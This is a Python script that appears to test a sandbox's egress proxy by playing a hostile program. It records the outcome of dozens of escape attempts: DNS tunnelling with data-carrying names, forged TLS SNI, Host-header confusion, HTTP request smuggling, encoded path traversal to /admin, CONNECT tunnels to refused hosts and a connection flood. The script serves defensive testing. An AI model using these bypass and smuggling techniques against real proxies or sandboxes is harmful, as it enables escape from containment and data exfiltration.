"""What a hostile program in a sandbox tries against the egress proxy. Prints a JSON object: what came of each attempt.

Its first argument is a JSON object: addresses of the proxy (`passed`, `inspected`) and of the upstream server (`outside`), a name of the list
(`listed`), a name of the list with a rule (`ruled`), another such one (`second`), a name that is not listed (`refused`), one that leads
into the cluster (`inside`), and a domain (`domain`) that is not listed and whose questions the DNS server of the cluster logs.
With `crowd` behind it, the program opens connections, and tries nothing else.
"""

import json
import socket
import ssl
import struct
import subprocess
import sys
import time
from http.client import HTTPResponse

GIVEN = json.loads(sys.argv[1])
# An answer of the proxy, on a machine with much other work.
PATIENCE = 15
# For what lies past the proxy: an answer would take milliseconds.
BRIEF = 2
TYPES = {"A": 1, "TXT": 16, "AAAA": 28, "SVCB": 64, "HTTPS": 65}
# The code with which the resolver refuses what comes too fast.
TOO_FAST = 5
# The proxy's limit of open connections for one sandbox, and some more.
CROWD = 300
# Seconds for which a crowd holds its connections, so that others can try meanwhile.
HOLD = 10


def attempt(tried):
    """The result of a function, or in which way it failed."""
    try:
        return tried()
    except ssl.SSLError as error:
        return f"tls: {error.reason}"
    except PermissionError:
        return "not permitted"
    except OSError:
        return "not reached"


def connect(address, port=443, patience=PATIENCE):
    return socket.create_connection((address, port), patience)


def unchecked():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


def shake(address, name, patience=PATIENCE):
    """TLS for a name, by any certificate; no name with None."""
    with connect(address, patience=patience) as raw, unchecked().wrap_socket(raw, server_hostname=name):
        return "answered"


def read_status(stream):
    response = HTTPResponse(stream)
    response.begin()
    return response.status


def request(text, name=None):
    """The status of a raw request over TLS to a host with a rule. Its certificate is checked."""
    name = name or GIVEN["ruled"]
    with connect(name) as raw, ssl.create_default_context().wrap_socket(raw, server_hostname=name) as stream:
        stream.sendall(text.replace("\n", "\r\n").encode())
        return read_status(stream)


def get(path, *headers, host=None, method="GET"):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host or GIVEN['ruled']}", *headers, "Connection: close", "", ""]
    return request("\n".join(lines))


def curl(*args):
    """The status of a request by curl; 0: no answer came."""
    command = ["curl", "--silent", "--max-time", str(PATIENCE), "--output", "/dev/null", "--write-out", "%{http_code}"]
    return int(subprocess.run([*command, *args], capture_output=True, text=True).stdout or 0)


def read_resolver():
    with open("/etc/resolv.conf", encoding="utf-8") as lines:
        return next(line.split()[1] for line in lines if line.startswith("nameserver"))


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", TYPES[kind], 1)


def resolve(name, kind="A"):
    """The code of the answer and its number of records. Waits while the resolver refuses questions that come too fast."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.settimeout(PATIENCE)
        for _ in range(100):
            asked.sendto(question(name, kind), (read_resolver(), 53))
            _, flags, _, answers, _, _ = struct.unpack(">6H", asked.recv(4096)[:12])
            if flags & 15 != TOO_FAST:
                break
            time.sleep(0.1)
        return [flags & 15, answers]


def tunnel():
    """Asks for names that carry data. Returns the codes of the answers."""
    names = [(f"{index:032x}.{GIVEN['domain']}", kind) for index in range(30) for kind in ("A", "TXT")]
    return sorted({resolve(name, kind)[0] for name, kind in names})


def send_packet(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
        asked.settimeout(1)
        asked.connect((address, 443))
        asked.send(b"x" * 1200)
        return asked.recv(9).hex()


def open_tunnel(target, name=None):
    """Asks the proxy for a tunnel. Returns the status; with a name the result of TLS in it."""
    with connect(GIVEN["passed"], 3128) as raw:
        raw.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        status = read_status(raw)
        if name is None or status != 200:
            return status
        with unchecked().wrap_socket(raw, server_hostname=name):
            return "answered"


def names_in_certificate():
    with connect(GIVEN["ruled"]) as raw:
        with ssl.create_default_context().wrap_socket(raw, server_hostname=GIVEN["ruled"]) as stream:
            return [name for _, name in stream.getpeercert()["subjectAltName"]]


def distrust():
    """A client that trusts the server's own authority alone, as one with a pinned certificate does."""
    context = ssl.create_default_context(cafile="/tmp/ca.crt")
    with connect(GIVEN["ruled"]) as raw, context.wrap_socket(raw, server_hostname=GIVEN["ruled"]):
        return "answered"


def send_raw():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "opened"


def open_stream(name):
    # Without a question for each connection: those have a limit of their own.
    stream = connect(PASSED, 80)
    stream.sendall(f"GET /stream HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
    try:
        return stream, read_status(stream)
    except OSError:
        # Faster than the proxy lets a sandbox open connections.
        return stream, 0


def crowd():
    """Opens streams until the proxy refuses one, and holds them. Returns how many were open, and the status of the refusal."""
    opened, status = [], 200
    try:
        while len(opened) < CROWD:
            stream, status = open_stream(GIVEN["listed"])
            if status == 200:
                opened.append(stream)
                continue
            stream.close()
            if status != 0:
                break
            time.sleep(0.1)
        time.sleep(HOLD)
        return [len(opened), status]
    finally:
        for stream in opened:
            stream.close()


def upgrade(name):
    lines = ["GET /socket HTTP/1.1", f"Host: {name}", "Upgrade: websocket", "Connection: Upgrade"]
    lines += ["Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==", "", ""]
    return request("\n".join(lines), name)


LISTED, RULED, SECOND = GIVEN["listed"], GIVEN["ruled"], GIVEN["second"]
REFUSED, OUTSIDE, INSIDE = GIVEN["refused"], GIVEN["outside"], GIVEN["inside"]
PASSED = GIVEN["passed"]
SMUGGLED = f"GET /admin HTTP/1.1\nHost: {RULED}\n\n"

ATTEMPTS = {
    "listed over TLS": lambda: curl("--cacert", "/tmp/ca.crt", f"https://{LISTED}/echo"),
    "listed over HTTP": lambda: curl(f"http://{LISTED}/echo"),
    "ruled": lambda: curl(f"https://{RULED}/headers"),
    "ruled over HTTP": lambda: curl(f"http://{RULED}/headers"),
    "names that carry data": tunnel,
    "text of a listed name": lambda: resolve(LISTED, "TXT"),
    "address of a listed name": lambda: resolve(LISTED),
    "address of a refused name": lambda: resolve(REFUSED),
    "IPv6 address of a listed name": lambda: resolve(LISTED, "AAAA"),
    "keys for an encrypted name": lambda: [resolve(LISTED, kind) for kind in ("HTTPS", "SVCB")],
    "forged name in TLS": lambda: shake(PASSED, REFUSED),
    "forged name in TLS, where TLS ends": lambda: shake(GIVEN["inspected"], REFUSED),
    "no name in TLS": lambda: shake(PASSED, None),
    "another host in plain HTTP": lambda: curl("--header", f"Host: {REFUSED}", f"http://{LISTED}/echo"),
    "another host in HTTP/1.1": lambda: curl("--http1.1", "--header", f"Host: {SECOND}", f"https://{RULED}/headers"),
    "another host in HTTP/2": lambda: curl("--http2", "--header", f"Host: {SECOND}", f"https://{RULED}/headers"),
    "another host by an absolute target": lambda: get(f"https://{SECOND}/headers"),
    "the address of the server": lambda: [
        attempt(lambda: shake(OUTSIDE, LISTED, BRIEF)),
        curl("--max-time", str(BRIEF), f"http://{OUTSIDE}/echo"),
    ],
    "the server by IPv6": lambda: attempt(lambda: shake(f"::ffff:{OUTSIDE}", LISTED, BRIEF)),
    "SSH": lambda: [attempt(lambda: connect(each, 22, BRIEF).close()) for each in (OUTSIDE, LISTED)],
    "QUIC": lambda: [attempt(lambda: send_packet(each)) for each in (OUTSIDE, PASSED)],
    "a name that leads into the cluster": lambda: curl("--insecure", f"https://{INSIDE}/version"),
    "tunnel": lambda: open_tunnel(f"{LISTED}:443", LISTED),
    "tunnel with another name in it": lambda: open_tunnel(f"{LISTED}:443", REFUSED),
    "tunnel to a refused name": lambda: open_tunnel(f"{REFUSED}:443"),
    "tunnel to another port": lambda: open_tunnel(f"{LISTED}:22"),
    "tunnel to an address": lambda: open_tunnel(f"{OUTSIDE}:443"),
    "tunnel in what is looked into": lambda: request(f"CONNECT {REFUSED}:443 HTTP/1.1\nHost: {RULED}\n\n"),
    "TRACE": lambda: get("/headers", method="TRACE"),
    "two lengths": lambda: request(
        f"POST /echo HTTP/1.1\nHost: {RULED}\nContent-Length: 5\nTransfer-Encoding: chunked\n\n0\n\n{SMUGGLED}"
    ),
    "a shorter length": lambda: request(f"POST /echo HTTP/1.1\nHost: {RULED}\nContent-Length: 0\n\n{SMUGGLED}"),
    "a space before the colon": lambda: get("/headers", "Authorization : mine"),
    "two hosts": lambda: get("/headers", f"Host: {SECOND}"),
    "own credentials": lambda: get(
        "/headers", "authorization: mine", "x-api-key: mine", "X_Api_Key: mine", "X-A: b\n Authorization: mine"
    ),
    "a credential that is of the connection": lambda: get("/headers", "Connection: authorization"),
    "paths": lambda: [
        get(path) for path in ("/admin", "/v1/../admin", "/v1/%2e%2e/admin", "/v1//admin", "/v1/..%5cadmin")
    ],
    "an encoded slash": lambda: get("/v1/%2Fadmin"),
    "WebSocket": lambda: upgrade(RULED),
    "names in the certificate": names_in_certificate,
    "pinned certificate": distrust,
    "large headers of an answer": lambda: get("/v1/large-headers"),
    "raw packets": send_raw,
}

if "crowd" in sys.argv:
    ATTEMPTS = {"crowd": crowd}
print(json.dumps({name: attempt(tried) for name, tried in ATTEMPTS.items()}))
